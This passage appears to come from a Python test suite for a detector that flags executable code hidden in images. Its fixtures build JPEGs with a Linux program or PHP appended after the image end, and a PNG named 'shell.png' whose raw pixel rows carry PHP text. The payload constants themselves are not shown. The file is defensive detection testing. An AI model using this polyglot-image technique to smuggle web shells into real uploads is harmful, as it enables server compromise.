        "xml.jpg": picture + b'<?xml version="1.0"?><note>nothing</note>',
    }
    assert fired(RULE, files) == {}


def test_looks_into_the_pictures_of_a_samsung_trailer(fired: Fired) -> None:
    shots = {
        "a.jpg": jpeg(photo("b"), comment=ALL["elf"]),
        "b.jpg": jpeg(photo("b"), comment=PHP),
        "sound.jpg": jpeg(photo("c")),
    }
    files = {name: jpeg(photo("a")) + samsung_trailer(b"1600000000000", shot) for name, shot in shots.items()}
    assert places(fired(RULE, files)) == {
        "a.jpg": "a Linux program after the end of the JPEG",
        "b.jpg": "PHP code after the end of the JPEG",
    }


def test_finds_code_that_stands_as_text_in_the_packed_pixels_of_a_png(fired: Fired) -> None:
    pixels = photo("a", 96, 92).tobytes()
    rows = [PHP.ljust(288)] * 4 + [pixels[at : at + 288] for at in range(0, len(pixels), 288)]
    head = struct.pack(">IIBBBBB", 96, 96, 8, 2, 0, 0, 0)
    stored = zlib.compress(b"".join(b"\0" + row for row in rows), 0)
    picture = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", stored) + chunk(b"IEND", b"")
    sound = {f"{level}.png": png(photo(f"{level}"), compress_level=level) for level in (0, 1, 6, 9)}
    assert places(fired(RULE, sound | {"shell.png": picture})) == {"shell.png": "PHP code in the chunk IDAT of the PNG"}
